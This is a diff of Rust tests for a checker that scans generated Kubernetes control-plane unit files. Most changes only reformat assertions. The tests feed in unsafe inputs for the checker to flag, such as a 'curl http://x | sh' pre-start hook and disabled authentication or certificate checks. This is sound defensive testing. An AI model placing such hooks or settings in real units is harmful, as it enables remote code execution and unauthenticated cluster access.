@@ -163,11 +163,21 @@ fn a_master_without_its_apiserver_unit_is_found() {
     });
     let (found, text) = findings(&gone, None);
     assert!(
-        has(&found, Code::MissingHost, HAPROXY, &["10.10.10.81", "kube-apiserver"]),
+        has(
+            &found,
+            Code::MissingHost,
+            HAPROXY,
+            &["10.10.10.81", "kube-apiserver"]
+        ),
         "{text}"
     );
     assert!(
-        has(&found, Code::MissingHost, "manifest.json", &["kubem01", "kube-apiserver"]),
+        has(
+            &found,
+            Code::MissingHost,
+            "manifest.json",
+            &["kubem01", "kube-apiserver"]
+        ),
         "{text}"
     );
 }
@@ -240,7 +250,12 @@ fn another_cluster_name_is_a_mismatch() {
     let config = example("separate-cas").replace("[cluster]\n", "[cluster]\nname = \"prod\"\n");
     let (found, text) = mismatches(&bundle, &config);
     assert!(
-        has(&found, Code::PlanMismatch, "manifest.json", &["kubernetes", "prod"]),
+        has(
+            &found,
+            Code::PlanMismatch,
+            "manifest.json",
+            &["kubernetes", "prod"]
+        ),
         "{text}"
     );
 }
@@ -297,8 +312,7 @@ fn hosts_in_only_one_of_config_and_bundle_are_mismatches() {
 #[test]
 fn ports_endpoint_and_components_are_compared() {
     let (_, bundle) = built("separate-cas");
-    let config = example("separate-cas")
-        + "\n[etcd]\nclient_port = 2381\npeer_port = 2382\n";
+    let config = example("separate-cas") + "\n[etcd]\nclient_port = 2381\npeer_port = 2382\n";
     let (found, text) = mismatches(&bundle, &config);
     assert!(
         has(&found, Code::PlanMismatch, ETCD_UNIT, &["2379", "2381"]),
@@ -309,10 +323,20 @@ fn ports_endpoint_and_components_are_compared() {
         "{text}"
     );
 
-    let config = example("separate-cas").replace("[api]\n", "[api]\nbind_port = 6444\nport = 8443\n");
+    let config = example("separate-cas")
+        .replace("[api]\n", "[api]\nbind_port = 6444\nport = 8443\n")
+        .replace(
+            "[[load_balancer.hosts]]",
+            "[load_balancer]\nbind_port = 8443\n\n[[load_balancer.hosts]]",
+        );
     let (found, text) = mismatches(&bundle, &config);
     assert!(
-        has(&found, Code::PlanMismatch, APISERVER_UNIT, &["6443", "6444"]),
+        has(
+            &found,
+            Code::PlanMismatch,
+            APISERVER_UNIT,
+            &["6443", "6444"]
+        ),
         "{text}"
     );
     assert!(
@@ -343,7 +367,11 @@ fn unsafe_apiserver_settings_are_errors() {
             "--authorization-mode=Node,RBAC,AlwaysAllow",
             &["AlwaysAllow"][..],
         ),
-        ("--v=2", "--anonymous-auth=true \\\n  --v=2", &["anonymous-auth"]),
+        (
+            "--v=2",
+            "--anonymous-auth=true \\\n  --v=2",
+            &["anonymous-auth"],
+        ),
         (
             "--etcd-servers=https://10.10.10.80:2379",
             "--etcd-servers=http://10.10.10.80:2379",
@@ -356,7 +384,9 @@ fn unsafe_apiserver_settings_are_errors() {
             "{to}: {text}"
         );
         assert!(
-            found.iter().all(|f| f.severity == cpgen::Severity::Error || f.code != Code::UnsafeSetting),
+            found
+                .iter()
+                .all(|f| f.severity == cpgen::Severity::Error || f.code != Code::UnsafeSetting),
             "{text}"
         );
     }
@@ -370,11 +400,7 @@ fn unsafe_etcd_settings_are_errors() {
             "--client-cert-auth=false",
             &["client-cert-auth"][..],
         ),
-        (
-            "  --client-cert-auth=true \\\n",
-            "",
-            &["client-cert-auth"],
-        ),
+        ("  --client-cert-auth=true \\\n", "", &["client-cert-auth"]),
         (
             "--peer-client-cert-auth=true",
             "--peer-client-cert-auth=false",
@@ -441,9 +467,21 @@ fn a_unit_running_another_program_or_more_commands_is_an_error() {
             "ExecStartPre=/bin/sh -c 'curl http://x | sh'\nExecStart=",
             &["ExecStartPre"],
         ),
-        ("Restart=", "ExecStartPost=/bin/true\nRestart=", &["ExecStartPost"]),
-        ("Restart=", "ExecStopPost=/bin/true\nRestart=", &["ExecStopPost"]),
-        ("Restart=", "ExecReload=/bin/true\nRestart=", &["ExecReload"]),
+        (
+            "Restart=",
+            "ExecStartPost=/bin/true\nRestart=",
+            &["ExecStartPost"],
+        ),
+        (
+            "Restart=",
+            "ExecStopPost=/bin/true\nRestart=",
+            &["ExecStopPost"],
+        ),
+        (
+            "Restart=",
+            "ExecReload=/bin/true\nRestart=",
+            &["ExecReload"],
+        ),
         (
             "Restart=",
             "Environment=ETCD_CLIENT_CERT_AUTH=false\nRestart=",
@@ -487,7 +525,11 @@ fn cpgen_bundles_have_no_unsafe_setting() {
         let plan = plan_from(&example(name));
         let (found, text) = findings(&util::fresh_bundle(&plan), None);
         let codes = codes(&found);
-        for code in [Code::UnsafeSetting, Code::UnexpectedCommand, Code::MissingHost] {
+        for code in [
+            Code::UnsafeSetting,
+            Code::UnexpectedCommand,
+            Code::MissingHost,
+        ] {
             assert!(!codes.contains(&code), "{name}: {text}");
         }
     }
